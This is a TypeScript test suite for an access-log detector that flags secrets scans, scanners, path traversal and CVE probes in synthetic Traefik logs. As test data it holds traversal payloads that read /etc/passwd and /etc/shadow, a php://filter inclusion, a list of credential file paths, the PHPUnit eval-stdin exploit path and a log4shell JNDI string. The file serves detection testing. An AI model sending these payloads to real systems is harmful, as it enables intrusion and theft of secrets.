// Hand-written access logs for every behaviour (issue 12, must-show 1), in Traefik JSON, Common Log Format and ECS,
// fed through the same line parser and detector the file source and `palisade detect` use; each case also asks the
// policy (default configuration, no intel keys) what it would do, so the calibration table is tested end to end.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { configSchema } from '../../../domain/config';
import { parseCidrs } from '../../../domain/detection/client-ip';
import { AccessLogDetector, type BehaviourFinding } from '../../../domain/detection/engine';
import { behaviourFindingToSighting } from '../../../domain/detection/finding-sighting';
import { parseAccessLine } from '../../../domain/detection/line-format';
import { previewPolicy } from '../../../domain/detection/policy-preview';
import type { DeepPartial } from '../../../runtime/config';
import type { PalisadeConfig } from '../../../domain/config';

const T0 = Date.parse('2026-11-22T10:00:00Z');
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
const NIKTO = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000042)';
const NUCLEI = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)';

interface Req { t: number; host: string; path: string; status: number; ua?: string; method?: string }

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number) => String(n).padStart(2, '0');
/** Traefik's Common Log Format, exactly as logger_formatters.go writes it (status "-" when Traefik answered itself). */
function clf(r: Req, n = 1): string {
  const d = new Date(r.t);
  const ts = `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
  const st = r.status === 0 ? '- -' : `${r.status} 512`;
  return `${r.host} - - [${ts}] "${r.method ?? 'GET'} ${r.path} HTTP/1.1" ${st} "-" "${r.ua ?? '-'}" ${n} "web@docker" "http://172.18.0.3:80" 4ms`;
}
/** The TCP peer as Traefik writes ClientAddr: host:port, IPv6 in brackets. */
const peerAddr = (ip: string) => (ip.includes(':') ? `[${ip}]:40000` : `${ip}:40000`);
/** Traefik's JSON access log (headers kept for User-Agent). */
function json(r: Req): string {
  const iso = new Date(r.t).toISOString();
  return JSON.stringify({
    ClientAddr: peerAddr(r.host.split(',').pop()!.trim()), ClientHost: r.host, DownstreamStatus: r.status, OriginStatus: r.status, RequestMethod: r.method ?? 'GET',
    RequestPath: r.path, RequestCount: 1, RouterName: 'web@docker', ServiceName: 'web@docker', Duration: 4_000_000, StartUTC: iso,
    ...(r.ua ? { 'request_User-Agent': r.ua } : {}), level: 'info', msg: '', time: iso,
  });
}
/** Filebeat traefik-module ECS document. */
function ecs(r: Req): string {
  return JSON.stringify({
    '@timestamp': new Date(r.t).toISOString(), source: { ip: r.host }, http: { request: { method: r.method ?? 'GET' }, response: { status_code: r.status } },
    url: { original: r.path }, ...(r.ua ? { user_agent: { original: r.ua } } : {}), event: { dataset: 'traefik.access' },
  });
}

type Fmt = 'json' | 'clf' | 'ecs';
const writers: Record<Fmt, (r: Req) => string> = { json, clf, ecs };

function run(lines: string[], over: DeepPartial<PalisadeConfig> = {}) {
  const config = configSchema.parse(over);
  const det = new AccessLogDetector(config.detection.detector);
  const opts = { format: 'auto' as const, clientField: 'ClientHost' as const, trustedProxies: parseCidrs(config.detection.detector.trustedProxies) };
  const malformed: string[] = [];
  for (const l of lines) {
    const r = parseAccessLine(l, opts, det.wants);
    if (r.ok === 'skipped') det.skip();
    else if (r.ok) det.add(r.record);
    else malformed.push(r.reason);
  }
  const findings = det.collect();
  /** What the policy would do per address with all its findings (as the threat workflow merges them). */
  const policy = (ip: string) => {
    const mine = findings.filter((f) => f.ip === ip);
    return previewPolicy(ip, mine.map((f) => behaviourFindingToSighting(f, 'traefik-file', config.detection.detector)), config.policy, new Date(T0 + 3_600_000).toISOString());
  };
  return { findings, malformed, policy, det };
}

const get = (fs: BehaviourFinding[], ip: string, b: BehaviourFinding['behaviour']) => fs.find((f) => f.ip === ip && f.behaviour === b);
const seq = (n: number, f: (i: number) => Req) => Array.from({ length: n }, (_, i) => f(i));
const SENSITIVE = ['/.env', '/.env.local', '/.env.production', '/.git/config', '/.git/HEAD', '/config.json', '/wp-config.php', '/.aws/credentials',
  '/backup.sql', '/db.sql', '/.npmrc', '/.docker/config.json', '/app/.env', '/api/.env', '/terraform.tfstate', '/.kube/config'];

for (const fmt of ['json', 'clf', 'ecs'] as const) {
  const w = writers[fmt];
  void describe(`behaviours over hand-written ${fmt} logs`, () => {
    void test('plain secrets scan (68 sensitive paths in a minute, 16 distinct, all 404, browser UA) → confirmed, policy pending_review', () => {
      const { findings, policy } = run(seq(68, (i) => ({ t: T0 + i * 850, host: '91.92.243.65', path: SENSITIVE[i % 16], status: 404, ua: BROWSER })).map(w));
      const f = get(findings, '91.92.243.65', 'secrets-scan');
      assert.ok(f?.confirmed, JSON.stringify(findings.map((x) => [x.behaviour, x.score])));
      assert.ok(f.score >= 80 && f.score < 95, `score ${f.score}`);
      assert.equal(policy('91.92.243.65').result, 'pending_review');
    });

    void test('a Nikto run (80 requests in under a second, random extensions, file:///etc/passwd) → scanner UA, probing and traversal', () => {
      const exts = ['.cgi', '.pl', '.php', '.asp', '.bak', '.old', '.inc', '.sh', '.jsp', '.mdb'];
      const special = ['/index.php?page=file:///etc/passwd', '/../../../../etc/passwd', '/?f=..%2f..%2fwindows/win.ini'];
      const lines = seq(80, (i) => ({
        t: T0 + i * 10, host: '185.220.101.45', ua: NIKTO, status: i % 9 === 0 && fmt === 'clf' ? 0 : 404,
        path: i < special.length ? special[i] : `/${(i * 7919).toString(36)}${exts[i % exts.length]}`,
      })).map(w);
      const { findings, policy } = run(lines);
      for (const b of ['scanner-user-agent', 'probing', 'path-traversal'] as const) assert.ok(get(findings, '185.220.101.45', b)?.confirmed, `${b}: ${JSON.stringify(findings.map((x) => [x.behaviour, x.score]))}`);
      assert.equal(policy('185.220.101.45').result, 'pending_review');
    });

    void test('slow nuclei scan: 12 sensitive paths spread over 10 minutes (IPv6 client) → caught, pending_review', () => {
      const ip = '2a0b:f4c2:2::66';
      const { findings, policy } = run(seq(12, (i) => ({ t: T0 + i * 52_000, host: ip, path: SENSITIVE[i], status: 404, ua: NUCLEI })).map(w));
      const f = get(findings, ip, 'scanner-user-agent');
      assert.ok(f?.confirmed, JSON.stringify(findings.map((x) => [x.behaviour, x.score])));
      assert.ok(f.tally.lastSeenMs - f.tally.firstSeenMs >= 5 * 60_000, 'counted across minutes, not in one window');
      assert.equal(policy(ip).result, 'pending_review');
    });

    void test('one request with a scanner user agent → recorded (score 50, not an observed attack)', () => {
      const { findings, policy } = run([w({ t: T0, host: '167.94.138.120', path: '/', status: 200, ua: 'Mozilla/5.0 zgrab/0.x' })]);
      assert.deepEqual(findings.map((f) => [f.behaviour, f.score, f.confirmed]), [['scanner-user-agent', 50, false]]);
      assert.equal(policy('167.94.138.120').result, 'recorded');
    });

    void test('probing: 40 distinct missing paths in 20 s → confirmed; a page with 40 missing images and scripts is not probing', () => {
      const { findings } = run([
        ...seq(40, (i) => ({ t: T0 + i * 500, host: '203.0.113.250', path: `/old/page-${i}.html`, status: 404, ua: BROWSER })),
        ...seq(40, (i) => ({ t: T0 + i * 500, host: '81.2.69.142', path: `/img/product-${i}.webp`, status: 404, ua: BROWSER })),
      ].map(w));
      assert.ok(get(findings, '203.0.113.250', 'probing')?.confirmed);
      assert.equal(findings.filter((f) => f.ip === '81.2.69.142').length, 0);
    });

    void test('path traversal and file inclusion: encoded forms and system files', () => {
      const { findings, policy } = run([
        { path: '/static/%2e%2e/%2e%2e/etc/shadow', status: 404 }, { path: '/download?file=....//....//etc/hosts', status: 400 },
        { path: '/view?page=php://filter/convert.base64-encode/resource=index.php', status: 200 }, { path: '/..%5c..%5cwindows%5cwin.ini', status: 404 },
      ].map((r, i) => w({ ...r, t: T0 + i * 2000, host: '193.142.146.10', ua: 'python-requests/2.31.0' })));
      const f = get(findings, '193.142.146.10', 'path-traversal');
      assert.ok(f && f.confirmed && f.score >= 85, JSON.stringify(f));
      assert.equal(policy('193.142.146.10').result, 'pending_review');
      // One plain dot-dot request is only recorded.
      const weak = run([w({ t: T0, host: '94.102.49.190', path: '/a/../b', status: 404, ua: BROWSER })]);
      assert.deepEqual(weak.findings.map((x) => [x.behaviour, x.score]), [['path-traversal', 60]]);
      assert.equal(weak.policy('94.102.49.190').result, 'recorded');
    });

    void test('admin-interface and CVE probes: one exploit path is a clear probe; several admin families confirm; one family (an admin) does not', () => {
      const { findings, policy } = run([
        w({ t: T0, host: '80.94.95.20', path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', status: 404, method: 'POST', ua: BROWSER }),
        ...['/wp-login.php', '/phpmyadmin/index.php', '/manager/html', '/cgi-bin/luci'].map((p, i) => w({ t: T0 + i * 15_000, host: '2a06:4880:1000::7', path: p, status: 404, ua: BROWSER })),
        w({ t: T0, host: '45.146.164.110', path: '/', status: 200, ua: '${jndi:ldap://45.146.164.110:1389/a}' }),
        ...['/wp-login.php', '/wp-admin/', '/wp-admin/edit.php', '/wp-admin/post.php?post=12'].map((p, i) => w({ t: T0 + i * 5000, host: '81.2.69.160', path: p, status: 200, ua: BROWSER })),
      ]);
      assert.ok(get(findings, '80.94.95.20', 'admin-cve-probe')?.confirmed);
      assert.match(get(findings, '80.94.95.20', 'admin-cve-probe')!.reasons.join(), /CVE-2017-9841/);
      assert.ok(get(findings, '2a06:4880:1000::7', 'admin-cve-probe')?.confirmed);
      assert.match(get(findings, '45.146.164.110', 'admin-cve-probe')?.reasons.join() ?? '', /log4shell/);
      assert.equal(findings.filter((f) => f.ip === '81.2.69.160').length, 0, 'a WordPress administrator is not a probe');
      for (const ip of ['80.94.95.20', '2a06:4880:1000::7', '45.146.164.110']) assert.equal(policy(ip).result, 'pending_review', ip);
    });

    void test('a legitimate user failing a login 15 times is never flagged', () => {
      const { findings } = run(seq(15, (i) => ({ t: T0 + i * 4000, host: '2.125.160.216', path: '/login', status: 401, method: 'POST', ua: BROWSER })).map(w));
      assert.deepEqual(findings, []);
    });

    void test('a private health checker may be flagged, but the policy never blocks it', () => {
      const { findings, policy } = run(seq(60, (i) => ({ t: T0 + i * 300, host: '10.42.0.5', path: `/probe/${i}/health`, status: 404, ua: 'kube-probe/1.31' })).map(w));
      assert.ok(findings.some((f) => f.ip === '10.42.0.5'));
      assert.equal(policy('10.42.0.5').result, 'skipped_never_block');
    });

    void test('malformed lines are counted with a reason and the good lines around them still count', () => {
      const good = seq(68, (i) => ({ t: T0 + i * 850, host: '91.92.243.65', path: SENSITIVE[i % 16], status: 404, ua: BROWSER })).map(w);
      good.splice(20, 0, 'garbage', '{"truncated": ', fmt === 'clf' ? '1.2.3.4 - - [yesterday] "GET /.env HTTP/1.1" 404 1 "-" "-"' : '{"StartUTC": "x"}');
      const { findings, malformed } = run(good);
      assert.equal(malformed.length, 3, malformed.join());
      assert.ok(get(findings, '91.92.243.65', 'secrets-scan')?.confirmed);
    });
  });
}

void describe('client address', () => {
  test('X-Forwarded-For behind a trusted proxy: the client is the address the trusted proxy forwarded for (JSON and CLF)', () => {
    const over = { detection: { detector: { trustedProxies: ['198.51.100.10/32'] } } };
    for (const w of [json, clf]) {
      const { findings } = run(seq(68, (i) => ({ t: T0 + i * 850, host: '91.92.243.65, 198.51.100.10', path: SENSITIVE[i % 16], status: 404, ua: BROWSER })).map(w), over);
      assert.deepEqual([...new Set(findings.map((f) => f.ip))], ['91.92.243.65']);
    }
  });

  test('IPv6 clients in CLF are canonicalised', () => {
    const { findings } = run([clf({ t: T0, host: '2A0B:F4C2:0002:0000:0000:0000:0000:0066', path: '/', status: 200, ua: NUCLEI })]);
    assert.deepEqual(findings.map((f) => f.ip), ['2a0b:f4c2:2::66']);
  });
});

void describe('bounded memory and persisted state', () => {
  test('at most maxTrackedClients clients are held; the least recently active are forgotten first', () => {
    const config = configSchema.parse({ detection: { detector: { maxTrackedClients: 100 } } });
    const det = new AccessLogDetector(config.detection.detector);
    for (let i = 0; i < 1000; i++) {
      const r = parseAccessLine(json({ t: T0 + i, host: `203.0.${Math.floor(i / 250)}.${(i % 250) + 1}`, path: `/missing-${i}`, status: 404 }), { format: 'auto', clientField: 'ClientHost', trustedProxies: [] });
      if (r.ok === true) det.add(r.record);
    }
    assert.equal(det.trackedClients, 100);
    assert.equal(det.stats.evictedClients, 900);
    assert.ok(JSON.stringify(det.state()).length < 200_000);
  });

  test('a slow scan split across scan runs adds up through the persisted state', () => {
    const config = configSchema.parse({});
    const cfg = config.detection.detector;
    let state: ReturnType<AccessLogDetector['state']> | undefined;
    const found: BehaviourFinding[] = [];
    for (let i = 0; i < 12; i++) {
      const det = new AccessLogDetector(cfg, state ? JSON.parse(JSON.stringify(state)) as typeof state : undefined);
      const r = parseAccessLine(json({ t: T0 + i * 52_000, host: '2a0b:f4c2:2::66', path: SENSITIVE[i], status: 404, ua: NUCLEI }), { format: 'auto', clientField: 'ClientHost', trustedProxies: [] });
      if (r.ok === true) det.add(r.record);
      found.push(...det.collect());
      state = det.state();
    }
    assert.deepEqual(found.map((f) => [f.behaviour, f.score]), [['scanner-user-agent', 50], ['scanner-user-agent', 80]]);
  });
});
